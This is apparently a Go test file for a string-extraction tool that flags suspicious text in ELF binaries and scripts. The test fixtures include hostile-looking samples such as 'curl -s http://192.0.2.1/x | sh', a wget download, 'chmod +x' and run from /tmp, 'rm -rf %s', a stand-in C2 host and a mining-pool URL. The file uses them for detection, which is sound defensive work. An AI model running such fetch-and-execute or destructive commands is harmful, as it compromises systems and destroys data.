package elfstrings

import (
	"bytes"
	"debug/elf"
	"encoding/binary"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
)

func interesting(t *testing.T, data []byte) Result {
	t.Helper()
	res, err := Interesting(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range res.Strings {
		width := 1
		if s.Wide {
			width = 2
		}
		for i := range len(s.Text) {
			if data[int(s.Offset)+i*width] != s.Text[i] {
				t.Fatalf("%q does not stand at %d", s.Text, s.Offset)
			}
		}
	}
	return res
}

func TestClassify(t *testing.T) {
	tests := []struct {
		text string
		kind regionKind
		want Why
	}{
		{"Shellcode placed at 0x%08lx", data, Phrase},
		{"Wait for suid shell.", data, Phrase},
		{"PRIVMSG %s :flooding", data, Phrase},
		{"sendUDPFlood", data, Phrase},
		{"tailcall_frame_sniffer", data, ""},
		{"stratum+tcp://pool.example.org:3333", data, Phrase},
		{"http://192.0.2.1/x.sh", data, Network},
		{"http://192.0.2.1/x.sh", code, Network},
		{"https://www.gnu.org/software/", data, ""},
		{"://", data, ""},
		{"connect 203.0.113.77 now", data, Network},
		{"version 1.2.3.4", data, ""},
		{"oid 1.2.840.113549", data, ""},
		{"10.256.3.40", data, ""},
		{"1.10.20.30.40", data, ""},
		{"c2.example.org", data, Network},
		{"mail me at someone@example.com", data, Network},
		{"strings.info", data, ""},
		{"main.c", data, ""},
		{"wget -q http://example.org/x", data, Network},
		{"cd /tmp; chmod +x a; ./a", data, Command},
		{"/bin/sh -c '%s'", data, Command},
		{"rm -rf %s", data, Command},
		{"cat is a program", data, Text},
		{"[+] got it", data, Banner},
		{"[a] got it", data, Text},
		{"Usage: %s [-p port]", data, Banner},
		{"Password: ", data, Banner},
		{"/usr/local/sbin/.x/run", data, Path},
		{"log=/var/log/x.log", data, Path},
		{"/tmp/.ICE-unix/x", data, Path},
		{"/tmp", data, ""},
		{"/dev/null", data, ""},
		{"/lib64/ld-linux-x86-64.so.2", data, ""},
		{"/usr/share/zoneinfo", data, ""},
		{"either/or", data, ""},
		{"/bin//sh", code, Command},
		{"Usage: %s [-p port]", code, ""},
		{"Can't get PID of child!", data, Text},
		{"Can't get PID of child!", plain, ""},
		{"GCC: (Debian 12.2.0-14) 12.2.0", comment, Compiler},
		{"_ZNSt6vectorIiSaIiEE9push_backERKi", data, ""},
		{"[]A\\A]A^A_", code, ""},
		{"GLIBC_2.2.5", plain, ""},
	}
	var scratch []byte
	for _, tt := range tests {
		if got, from, to := classify([]byte(tt.text), tt.kind, true, &scratch); got != tt.want {
			t.Errorf("%q in %d: %q, want %q", tt.text, tt.kind, got, tt.want)
		} else if got != "" && tt.text[from:to] != tt.text {
			t.Errorf("%q: shown as %q", tt.text, tt.text[from:to])
		}
	}
}

// Long runs, as Go's programs hold, are shown around what is telling.
func TestWindow(t *testing.T) {
	long := strings.Repeat("abc def ", 300) + "http://192.0.2.1/x " + strings.Repeat("ghi ", 300)
	res := interesting(t, []byte(long))
	if len(res.Strings) != 1 || len(res.Strings[0].Text) > maxText || !strings.Contains(res.Strings[0].Text, "http://192.0.2.1/x ") {
		t.Errorf("%+v", res.Strings)
	}
}

func TestScript(t *testing.T) {
	res := interesting(t, []byte("#!/bin/sh\n# a comment\ncurl -s http://192.0.2.1/x | sh\nrm -f /tmp/x\nfi\n"))
	var got []string
	for _, s := range res.Strings {
		got = append(got, string(s.Why)+" "+s.Text)
	}
	if want := []string{"network curl -s http://192.0.2.1/x | sh", "command rm -f /tmp/x"}; res.Kind != "script" || !slices.Equal(got[len(got)-2:], want) {
		t.Errorf("%s %q, want %q at the end", res.Kind, got, want)
	}
}

func TestWide(t *testing.T) {
	var b []byte
	for _, odd := range []int{0, 1} {
		b = append(b, make([]byte, 8+odd)...)
		b = append(b, 0xff)
		for _, c := range []byte([]string{"http://192.0.2.1/wide", "reverse shell here"}[odd]) {
			b = append(b, c, 0)
		}
		b = append(b, 0xff)
	}
	res := interesting(t, b)
	if len(res.Strings) != 2 || !res.Strings[0].Wide || res.Strings[0].Text != "http://192.0.2.1/wide" || res.Strings[1].Text != "reverse shell here" {
		t.Errorf("%+v", res.Strings)
	}
}

// A string on the border of two pieces comes once and whole.
func TestPieces(t *testing.T) {
	for _, shift := range []int{0, 1, 5, 20, 22} {
		b := bytes.Repeat([]byte{0xff}, 3*chunk)
		copy(b[chunk-shift:], "http://192.0.2.1/narrow")
		for i, c := range []byte("http://192.0.2.1/wide") {
			copy(b[2*chunk-shift+2*i:], []byte{c, 0})
		}
		var got []string
		for _, s := range interesting(t, b).Strings {
			got = append(got, s.Text)
		}
		if want := []string{"http://192.0.2.1/narrow", "http://192.0.2.1/wide"}; !slices.Equal(got, want) {
			t.Errorf("shift %d: %q", shift, got)
		}
	}
}

func TestCap(t *testing.T) {
	var b bytes.Buffer
	for i := range 500 {
		b.WriteString("/var/lib/x/" + strings.Repeat("a", i%50) + string(rune('a'+i/50)) + "\x00")
	}
	b.WriteString("reverse shell\x00")
	res := interesting(t, b.Bytes())
	if len(res.Strings) != maxStrings || res.Found != 501 || res.Strings[maxStrings-1].Text != "reverse shell" {
		t.Errorf("%d strings of %d, the last %+v", len(res.Strings), res.Found, res.Strings[len(res.Strings)-1])
	}
	if again := interesting(t, b.Bytes()); !slices.Equal(again.Strings, res.Strings) {
		t.Error("two runs differ")
	}
}

type failing struct {
	data     []byte
	from, to int64
}

func (f failing) ReadAt(p []byte, off int64) (int, error) {
	if off < f.to && off+int64(len(p)) > f.from {
		if off >= f.from {
			return 0, errors.New("input/output error")
		}
		n, _ := bytes.NewReader(f.data).ReadAt(p[:f.from-off], off)
		return n, errors.New("input/output error")
	}
	return bytes.NewReader(f.data).ReadAt(p, off)
}

func TestUnreadable(t *testing.T) {
	b := bytes.Repeat([]byte{0xff}, 3*badStep)
	copy(b[100:], "http://192.0.2.1/before")
	copy(b[2*badStep+100:], "http://192.0.2.1/behind")
	res, err := Interesting(failing{b, badStep, 2 * badStep}, int64(len(b)))
	if err == nil || len(res.Strings) != 2 {
		t.Errorf("error %v, strings %+v", err, res.Strings)
	}
	if _, err := Interesting(bytes.NewReader(b), int64(len(b))+1); err == nil {
		t.Error("no error for a short file")
	}
}

const program = `
#include <stdio.h>
#include <stdlib.h>
int main(int argc, char **argv) {
	if (argc < 2) { fprintf(stderr, "Usage: %s target\n", argv[0]); return 1; }
	puts("[+] would place shellcode at 0x1234, but this only prints");
	puts("http://192.0.2.7/payload");
	puts("Can not find the child of this test!");
	puts("/usr/local/lib/.hidden/place");
	return printf("rm -f %s\n", argv[1]) < 0;
}
`

// TestCompiled looks at what a compiler makes of a program.
func TestCompiled(t *testing.T) {
	gcc, err := exec.LookPath("gcc")
	if err != nil {
		t.Skip("gcc is not installed")
	}
	dir := t.TempDir()
	src := filepath.Join(dir, "p.c")
	if err := os.WriteFile(src, []byte(program), 0o600); err != nil {
		t.Fatal(err)
	}
	want := map[string]Why{"Usage: %s target": Banner, "[+] would place shellcode at 0x1234, but this only prints": Phrase, "http://192.0.2.7/payload": Network, "/usr/local/lib/.hidden/place": Banner, "rm -f %s": Command}
	for _, flags := range [][]string{{}, {"-s"}, {"-static"}, {"-static", "-s"}} {
		out := filepath.Join(dir, "p"+strings.Join(flags, ""))
		if msg, err := exec.Command(gcc, append(flags, "-o", out, src)...).CombinedOutput(); err != nil {
			t.Skipf("gcc %v: %s", flags, msg)
		}
		b, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		res := interesting(t, b)
		got := map[string]Why{}
		compiler := false
		for _, s := range res.Strings {
			got[s.Text] = s.Why
			compiler = compiler || s.Why == Compiler && strings.HasPrefix(s.Text, "GCC: ")
		}
		for text, why := range want {
			if got[text] != why {
				t.Errorf("%v: %q is %q, want %q", flags, text, got[text], why)
			}
		}
		static := slices.Contains(flags, "-static")
		if text := "Can not find the child of this test!"; (got[text] == Text) == static {
			t.Errorf("%v: %q is %q", flags, text, got[text])
		}
		if !compiler || res.Kind != "elf" || res.static() != static || slices.Contains(res.Notes, "stripped") != slices.Contains(flags, "-s") {
			t.Errorf("%v: kind %q, notes %q, compiler %v", flags, res.Kind, res.Notes, compiler)
		}
		if !static && len(res.Strings) > 12 {
			t.Errorf("%v: noise among %+v", flags, res.Strings)
		}
		// Without section headers, and cut in the middle of them, the strings are found all the same.
		for name, bad := range map[string][]byte{"no sections": noSections(b), "cut": b[:len(b)*9/10]} {
			found := 0
			for _, s := range interesting(t, bad).Strings {
				if want[s.Text] != "" {
					found++
				}
			}
			if found != len(want) {
				t.Errorf("%v, %s: %d of %d strings", flags, name, found, len(want))
			}
		}
	}
}

// noSections takes the section headers away, as sstrip does.
func noSections(b []byte) []byte {
	b = bytes.Clone(b)
	binary.LittleEndian.PutUint64(b[0x28:], 0)
	copy(b[0x3c:], []byte{0, 0, 0, 0})
	return b
}

func TestGo(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Skip(err)
	}
	f, err := os.Open(self)
	if err != nil {
		t.Skip(err)
	}
	defer f.Close()
	info, err := f.Stat()
	if err != nil {
		t.Fatal(err)
	}
	res, err := Interesting(f, info.Size())
	if err != nil || runtime.GOOS != "linux" {
		t.Skip(err)
	}
	if !slices.ContainsFunc(res.Notes, func(n string) bool { return strings.Contains(n, runtime.Version()) }) {
		t.Errorf("notes %q", res.Notes)
	}
}

// zeros is a file of any size that holds nothing but one string.
type zeros struct{ size int64 }

func (z zeros) ReadAt(p []byte, off int64) (int, error) {
	clear(p)
	const text = "reverse shell"
	if at := z.size / 2; off <= at && off+int64(len(p)) >= at+int64(len(text)) {
		copy(p[at-off:], text)
	}
	if off+int64(len(p)) > z.size {
		return int(z.size - off), io.EOF
	}
	return len(p), nil
}

// TestMemory reads a quarter of a gigabyte with a few megabytes of memory.
func TestMemory(t *testing.T) {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	res, err := Interesting(zeros{256 << 20}, 256<<20)
	runtime.ReadMemStats(&after)
	if err != nil || len(res.Strings) != 1 {
		t.Errorf("error %v, strings %+v", err, res.Strings)
	}
	if used := after.TotalAlloc - before.TotalAlloc; used > 8<<20 {
		t.Errorf("%d bytes of memory", used)
	}
}

// A header that asks for a table as large as the file must not get it.
func TestHeaderBudget(t *testing.T) {
	const size = 1 << 40
	var head bytes.Buffer
	h := elf.Header64{Type: uint16(elf.ET_EXEC), Machine: uint16(elf.EM_X86_64), Version: 1, Shoff: 64, Ehsize: 64, Shentsize: 64, Shnum: 2, Shstrndx: 1}
	copy(h.Ident[:], elf.ELFMAG)
	h.Ident[elf.EI_CLASS], h.Ident[elf.EI_DATA], h.Ident[elf.EI_VERSION] = byte(elf.ELFCLASS64), byte(elf.ELFDATA2LSB), 1
	for _, v := range []any{h, elf.Section64{}, elf.Section64{Type: uint32(elf.SHT_STRTAB), Off: 4096, Size: size - 4096}} {
		if err := binary.Write(&head, binary.LittleEndian, v); err != nil {
			t.Fatal(err)
		}
	}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	res := Result{}
	list := res.regions(headed{head.Bytes(), zeros{size}}, size)
	runtime.ReadMemStats(&after)
	if used := after.TotalAlloc - before.TotalAlloc; used > 6*budget {
		t.Errorf("%d bytes of memory", used)
	}
	if len(list) != 1 || list[0].end != size || len(res.Notes) != 1 {
		t.Errorf("regions %v, notes %q", list, res.Notes)
	}
}

type headed struct {
	head []byte
	rest io.ReaderAt
}

func (h headed) ReadAt(p []byte, off int64) (int, error) {
	n, err := h.rest.ReadAt(p, off)
	if off < int64(len(h.head)) {
		copy(p, h.head[off:])
	}
	return n, err
}

func FuzzInteresting(f *testing.F) {
	f.Add([]byte("#!/bin/sh\nwget http://192.0.2.1/x\n"))
	if b, err := os.ReadFile("/bin/true"); err == nil {
		f.Add(b)
	}
	f.Add(noSections(append([]byte(elf.ELFMAG), make([]byte, 80)...)))
	f.Fuzz(func(t *testing.T, b []byte) {
		res, _ := Interesting(bytes.NewReader(b), int64(len(b)))
		last := int64(-1)
		for _, s := range res.Strings {
			if s.Offset < last || s.Offset+int64(len(s.Text)) > int64(len(b)) || len(s.Text) == 0 {
				t.Fatalf("%+v", s)
			}
			last = s.Offset
		}
	})
}

func BenchmarkInteresting(b *testing.B) {
	data, err := os.ReadFile("/bin/bash")
	if err != nil {
		b.Skip(err)
	}
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := Interesting(bytes.NewReader(data), int64(len(data))); err != nil {
			b.Fatal(err)
		}
	}
}
